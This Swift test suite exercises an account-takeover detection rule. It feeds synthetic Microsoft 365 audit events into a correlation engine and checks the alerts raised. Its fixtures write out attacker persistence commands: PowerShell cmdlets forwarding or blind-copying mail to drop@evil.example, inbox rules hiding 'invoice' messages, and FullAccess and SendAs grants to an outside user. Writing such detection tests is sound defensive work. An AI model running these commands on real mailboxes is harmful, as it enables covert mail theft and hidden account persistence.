import Events
import Foundation
import Testing

@testable import Correlation

/// `accountTakeover`: a suspicious sign-in followed within the window by persistence — a
/// forwarding or hiding rule, a delegation, a security-info change, mass deletion. Critical, and
/// the rule that follows the sign-in opens no story of its own.
@Suite("Detection: account takeover")
struct AccountTakeoverTests {
    typealias H = DetectionHarness
    static let alice = H.alice

    /// One way an attacker keeps the mailbox, as raw records.
    enum Persistence: String, CaseIterable, Sendable, CustomTestStringConvertible {
        case forwardingRule, hidingRule, mailboxForwarding, graphForwardingRule, outlookRedirect, transportRuleCopy
        case fullAccess, sendAs, sendOnBehalf, securityInfo, massDeletion, massDeletionInParts

        var testDescription: String { rawValue }

        /// The detection that would tell it without the sign-in before it, if any.
        var aloneOpens: Detection? {
            switch self {
            case .forwardingRule, .mailboxForwarding, .graphForwardingRule, .outlookRedirect, .transportRuleCopy:
                .externalForwarding
            case .hidingRule: .hidingRule
            default: nil
            }
        }

        func add(to inputs: inout EngineInputs, user: String, at hours: Double) {
            let time = H.time(hours)
            switch self {
            case .forwardingRule:
                H.forwardingRule(&inputs, user: user, id: "persist", at: hours, to: "SMTP:Drop@Evil.example")
            case .hidingRule:
                inputs.cmdlet(
                    "New-InboxRule",
                    powerShell: #"-Name "." -SubjectContainsWords "invoice","payment" -MoveToFolder "RSS Feeds""#,
                    by: user, id: "persist", at: time)
            case .mailboxForwarding:
                inputs.cmdlet(
                    "Set-Mailbox", [("Identity", user), ("ForwardingSmtpAddress", "smtp:drop@evil.example")], by: user,
                    id: "persist", at: time)
            case .graphForwardingRule:
                inputs.graphRule(
                    mailbox: user, id: "persist", at: time, name: "Sync",
                    actions: ["forwardTo": EngineInputs.graphRecipients(["drop@evil.example"])])
            case .outlookRedirect:
                inputs.outlookRule(
                    by: user, id: "persist", at: time, name: "x",
                    actions: #"[{"ActionType":"Redirect","Recipients":["drop@evil.example"]}]"#)
            case .transportRuleCopy:
                inputs.cmdlet(
                    "New-TransportRule", [("Name", "Copy"), ("BlindCopyTo", "drop@evil.example")], by: user,
                    userType: 2, id: "persist", at: time)
            case .fullAccess:
                inputs.cmdlet(
                    "Add-MailboxPermission",
                    [
                        ("Identity", user), ("User", "mallory@contoso.com"), ("AccessRights", "FullAccess"),
                        ("InheritanceType", "All"), ("AutoMapping", "False"),
                    ], by: user, id: "persist", at: time)
            case .sendAs:
                inputs.cmdlet(
                    "Add-RecipientPermission",
                    powerShell:
                        "-Identity \"\(user)\" -Trustee \"mallory@contoso.com\" -AccessRights SendAs -Confirm:$false",
                    by: user, id: "persist", at: time)
            case .sendOnBehalf:
                inputs.cmdlet(
                    "Set-Mailbox", [("Identity", user), ("GrantSendOnBehalfTo", #"@{Add="mallory@contoso.com"}"#)],
                    by: user, id: "persist", at: time)
            case .securityInfo:
                inputs.securityInfoRegistered(by: user, id: "persist", at: time)
            case .massDeletion:
                inputs.deletion("SoftDelete", by: user, id: "persist", at: time, affectedItems: 50)
            case .massDeletionInParts:
                inputs.deletion("SoftDelete", by: user, id: "persist-1", at: time, affectedItems: 30)
                inputs.deletion(
                    "HardDelete", by: user, id: "persist-2", at: H.time(hours + 0.5), operationCount: "20")
            }
        }
    }

    @Test(
        "forwarding after a suspicious sign-in gives one critical takeover story and no external-forwarding story")
    func forwardingAfterSuspiciousSignIn() throws {
        var inputs = EngineInputs()
        H.riskySignIn(&inputs, user: Self.alice, id: "attack", at: 1)
        Persistence.forwardingRule.add(to: &inputs, user: Self.alice, at: 2)
        let run = H.run(inputs)
        #expect(run.found == ["alice@contoso.com accountTakeover critical"])
        let story = try #require(run.story(.accountTakeover, of: Self.alice))
        #expect(story.entities.externalRecipients == ["drop@evil.example"])
        #expect(story.entities.ipAddresses.map(\.address) == ["203.0.113.5", "203.0.113.66"])
        #expect(story.timeline.count == 2)
        #expect(story.openedAt == H.time(1))
        #expect(story.evidence.first?.matched["persistence"]?.contains("drop@evil.example") == true)
        // The fan-in table still learns where the mailbox forwards.
        #expect(run.observations.map(\.destination) == ["drop@evil.example"])
    }

    @Test(
        "each kind of persistence after a suspicious sign-in is a critical takeover, and only that",
        arguments: Persistence.allCases)
    func eachPersistenceKind(_ persistence: Persistence) {
        var inputs = EngineInputs()
        H.riskySignIn(&inputs, user: Self.alice, id: "attack", at: 1)
        persistence.add(to: &inputs, user: Self.alice, at: 3)
        let run = H.run(inputs)
        #expect(run.found == ["alice@contoso.com accountTakeover critical"])
        #expect(run.deadLetters.isEmpty)
    }

    @Test("the same persistence without a suspicious sign-in is no takeover", arguments: Persistence.allCases)
    func persistenceAlone(_ persistence: Persistence) {
        var inputs = EngineInputs()
        H.baseline(&inputs, user: Self.alice, before: 30)
        persistence.add(to: &inputs, user: Self.alice, at: 30)
        var expected: [String] = []
        if let detection = persistence.aloneOpens {
            let criticality: StoryView.Criticality = persistence == .mailboxForwarding ? .high : .medium
            expected = ["alice@contoso.com \(detection.rawValue) \(criticality.rawValue)"]
        }
        #expect(H.run(inputs).found == expected)
    }

    @Test("deletions that stay just below the threshold, or are spread over more than the window, are no mass deletion")
    func massDeletionBelowThreshold() {
        var inputs = EngineInputs()
        H.riskySignIn(&inputs, user: Self.alice, id: "attack", at: 1)
        inputs.deletion("SoftDelete", by: Self.alice, id: "d1", at: H.time(2), affectedItems: 30)
        inputs.deletion("HardDelete", by: Self.alice, id: "d2", at: H.time(2.5), operationCount: "19")
        // Later: 30, and 20 more only after the hour has passed.
        inputs.deletion("MoveToDeletedItems", by: Self.alice, id: "d3", at: H.time(5), affectedItems: 30)
        inputs.deletion("SoftDelete", by: Self.alice, id: "d4", at: H.time(6.5), operationCount: 20)
        #expect(H.run(inputs).found.isEmpty)
    }

    @Test("mass deletion counts once, at the deletion that crosses the threshold")
    func massDeletionCountsOnce() throws {
        var inputs = EngineInputs()
        H.riskySignIn(&inputs, user: Self.alice, id: "attack", at: 1)
        inputs.deletion("SoftDelete", by: Self.alice, id: "d1", at: H.time(2), affectedItems: 49)
        inputs.deletion("HardDelete", by: Self.alice, id: "d2", at: H.time(2.1), affectedItems: 1)
        inputs.deletion("HardDelete", by: Self.alice, id: "d3", at: H.time(2.2), operationCount: "40")
        let run = H.run(inputs)
        #expect(run.found == ["alice@contoso.com accountTakeover critical"])
        let story = try #require(run.story(.accountTakeover, of: Self.alice))
        #expect(story.evidence.count == 1)
        #expect(story.evidence.first?.matched["persistence"] == "deleted 50 items within 60 minutes")
    }

    @Test("a delegation of rights that let nobody read or send (ReadPermission) is no persistence")
    func harmlessDelegation() {
        var inputs = EngineInputs()
        H.riskySignIn(&inputs, user: Self.alice, id: "attack", at: 1)
        inputs.cmdlet(
            "Add-MailboxPermission",
            [("Identity", Self.alice), ("User", "helpdesk@contoso.com"), ("AccessRights", "ReadPermission")],
            by: Self.alice, id: "read", at: H.time(2))
        #expect(H.run(inputs).found.isEmpty)
    }

    @Test(
        "persistence counts within the takeover window after the sign-in, and is a rule of its own after it",
        arguments: [(23.5, true), (24.0, true), (25.0, false)])
    func window(_ hoursAfter: Double, _ takeover: Bool) {
        var inputs = EngineInputs()
        H.riskySignIn(&inputs, user: Self.alice, id: "attack", at: 1)
        Persistence.forwardingRule.add(to: &inputs, user: Self.alice, at: 1 + hoursAfter)
        #expect(
            H.run(inputs).found
                == [
                    takeover
                        ? "alice@contoso.com accountTakeover critical" : "alice@contoso.com externalForwarding medium"
                ])
    }

    @Test("Graph's snapshot of the takeover's rule, collected a day later, opens no forwarding story of its own")
    func graphSnapshotOfTheTakeoverRule() {
        var inputs = EngineInputs()
        H.riskySignIn(&inputs, user: Self.alice, id: "attack", at: 1)
        Persistence.forwardingRule.add(to: &inputs, user: Self.alice, at: 2)
        inputs.graphRule(
            mailbox: Self.alice, id: "rule-1", at: H.time(28), name: "Sync persist",
            actions: ["forwardTo": EngineInputs.graphRecipients(["drop@evil.example"])])
        #expect(H.run(inputs).found == ["alice@contoso.com accountTakeover critical"])
    }

    @Test(
        "a new forwarding rule days after a takeover, beyond its window, is still told: the open takeover story does not swallow it"
    )
    func laterRuleIsNotSwallowed() {
        var inputs = EngineInputs()
        H.riskySignIn(&inputs, user: Self.alice, id: "attack", at: 1)
        Persistence.fullAccess.add(to: &inputs, user: Self.alice, at: 2)
        H.forwardingRule(&inputs, user: Self.alice, id: "later", at: 1 + 72, to: "other@elsewhere.example")
        let run = H.run(inputs)
        let told = run.finalStories.values.contains { story in
            story.references.contains { $0.recordId == EventID.raw("later") }
        }
        #expect(told, "stories: \(run.found)")
    }

    @Test("several persistence steps after one sign-in make one takeover story with each step in its evidence")
    func severalStepsOneStory() throws {
        var inputs = EngineInputs()
        H.riskySignIn(&inputs, user: Self.alice, id: "attack", at: 1)
        Persistence.forwardingRule.add(to: &inputs, user: Self.alice, at: 2)
        inputs.cmdlet(
            "Add-MailboxPermission",
            [("Identity", Self.alice), ("User", "mallory@contoso.com"), ("AccessRights", "FullAccess")],
            by: Self.alice, id: "delegate", at: H.time(3))
        inputs.securityInfoRegistered(by: Self.alice, id: "mfa", at: H.time(4))
        let run = H.run(inputs)
        #expect(run.found == ["alice@contoso.com accountTakeover critical"])
        let story = try #require(run.story(.accountTakeover, of: Self.alice))
        #expect(story.evidence.count == 3)
        #expect(story.timeline.count == 4)
        #expect(run.stories.map(\.kind) == [.opened, .evidenceAdded, .evidenceAdded])
    }

    @Test("failures then a success, then an inbox rule: takeover")
    func failureBurstThenRule() {
        var inputs = EngineInputs()
        for index in 0..<6 {
            inputs.graphSignIn(
                user: Self.alice, id: "fail-\(index)", at: H.time(1 + Double(index) * 0.02), ip: "203.0.113.66",
                country: "US", latitude: 47.6, longitude: -122.3, errorCode: 50126)
        }
        inputs.graphSignIn(
            user: Self.alice, id: "in", at: H.time(1.2), ip: "203.0.113.66", country: "US", latitude: 47.6,
            longitude: -122.3)
        Persistence.hidingRule.add(to: &inputs, user: Self.alice, at: 2)
        #expect(H.run(inputs).found == ["alice@contoso.com accountTakeover critical"])
    }

    @Test("another user's suspicious sign-in makes nobody's rule a takeover")
    func anotherUsersSignIn() {
        var inputs = EngineInputs()
        H.riskySignIn(&inputs, user: H.bob, id: "attack", at: 1)
        Persistence.forwardingRule.add(to: &inputs, user: Self.alice, at: 2)
        #expect(H.run(inputs).found == ["alice@contoso.com externalForwarding medium"])
    }

    @Test("a VIP's takeover stays critical: the highest level")
    func vipStaysCritical() {
        var inputs = EngineInputs()
        H.riskySignIn(&inputs, user: Self.alice, id: "attack", at: 1)
        Persistence.fullAccess.add(to: &inputs, user: Self.alice, at: 2)
        let run = H.run(inputs, configuration: H.configuration(vipUsers: [Self.alice]))
        #expect(run.found == ["alice@contoso.com accountTakeover critical"])
    }

    // MARK: Out of order

    /// The rule, then both feeds hours further on, then the sign-in: behind the watermark.
    static func lateSignIn(ruleAt: Double, signInAt: Double) -> EngineInputs {
        var inputs = EngineInputs()
        Persistence.forwardingRule.add(to: &inputs, user: Self.alice, at: ruleAt)
        inputs.graphSignIn(
            user: H.bob, id: "later", at: H.time(ruleAt + 8), ip: H.home.ip, country: "US", latitude: 47.6,
            longitude: -122.3)
        inputs.cmdlet(
            "Set-MailboxRegionalConfiguration", [("Identity", H.bob), ("Language", "en-US")], by: H.bob, id: "later-a",
            at: H.time(ruleAt + 8))
        H.riskySignIn(&inputs, user: Self.alice, id: "attack", at: signInAt)
        return inputs
    }

    @Test("a suspicious sign-in arriving later than the grace after the rule still opens the takeover")
    func lateSignInStillOpensTheTakeover() throws {
        let run = H.run(Self.lateSignIn(ruleAt: 2, signInAt: 1), asGiven: true)
        #expect(run.engine.counters.late == 1)
        let story = try #require(run.story(.accountTakeover, of: Self.alice))
        #expect(story.criticality == .critical)
        #expect(story.openedAt == H.time(1))
        #expect(story.entities.externalRecipients == ["drop@evil.example"])
    }

    @Test("a late suspicious sign-in more than the takeover window before the rule opens no takeover")
    func lateSignInOutsideTheWindow() {
        let run = H.run(Self.lateSignIn(ruleAt: 30, signInAt: 2), asGiven: true)
        #expect(run.engine.counters.late == 1)
        #expect(run.found == ["alice@contoso.com externalForwarding medium"])
    }

    // MARK: Who did it

    /// A suspicious sign-in of alice, then what `actor` does to her mailbox (by `add`), both keyed
    /// by the actor as the audit collector keys it and keyed by alice's mailbox.
    static func afterSuspiciousSignIn(
        by actor: ExternalForwardingTests.Actor,
        _ add: (inout EngineInputs, _ keyed: String?, _ suffix: String, _ hours: Double) -> Void
    ) -> EngineRun {
        var inputs = EngineInputs()
        H.riskySignIn(&inputs, user: Self.alice, id: "attack", at: 1)
        for (index, keyed) in [nil, Self.alice].enumerated() {
            add(&inputs, keyed, "\(index)", 2 + Double(index) * 4)
        }
        return H.run(inputs)
    }

    @Test(
        "system actors and applications making rules, delegations or security-info changes after the user's suspicious sign-in make no takeover",
        arguments: ExternalForwardingTests.Actor.all)
    func systemActorsMakeNoTakeover(_ actor: ExternalForwardingTests.Actor) {
        let run = Self.afterSuspiciousSignIn(by: actor) { inputs, keyed, suffix, at in
            inputs.cmdlet(
                "New-InboxRule", [("Mailbox", Self.alice), ("Name", "x"), ("ForwardTo", "drop@evil.example")],
                by: actor.userId, userType: actor.userType, id: "rule-\(suffix)", at: H.time(at), keyedTo: keyed)
            inputs.cmdlet(
                "New-InboxRule",
                [
                    ("Mailbox", Self.alice), ("Name", "..."), ("SubjectContainsWords", "invoice"),
                    ("DeleteMessage", "True"),
                ],
                by: actor.userId, userType: actor.userType, id: "hide-\(suffix)", at: H.time(at + 0.5), keyedTo: keyed)
            inputs.cmdlet(
                "Set-Mailbox", [("Identity", Self.alice), ("ForwardingSmtpAddress", "smtp:drop@evil.example")],
                by: actor.userId, userType: actor.userType, id: "mbx-\(suffix)", at: H.time(at + 0.7), keyedTo: keyed)
            inputs.cmdlet(
                "Add-MailboxPermission",
                [("Identity", Self.alice), ("User", "mallory@contoso.com"), ("AccessRights", "FullAccess")],
                by: actor.userId, userType: actor.userType, id: "delegate-\(suffix)", at: H.time(at + 1),
                keyedTo: keyed)
            inputs.securityInfoRegistered(
                by: actor.userId, id: "mfa-\(suffix)", at: H.time(at + 1.5), userType: actor.userType, keyedTo: keyed)
        }
        #expect(run.found.isEmpty)
    }

    @Test(
        "system actors and applications purging mail (retention, migration) after the user's suspicious sign-in make no mass deletion",
        arguments: ExternalForwardingTests.Actor.all)
    func systemActorsMakeNoMassDeletion(_ actor: ExternalForwardingTests.Actor) {
        let run = Self.afterSuspiciousSignIn(by: actor) { inputs, keyed, suffix, at in
            inputs.deletion(
                "HardDelete", by: actor.userId, id: "purge-\(suffix)", at: H.time(at), affectedItems: 60,
                userType: actor.userType, keyedTo: keyed)
        }
        #expect(run.found.isEmpty)
    }
}
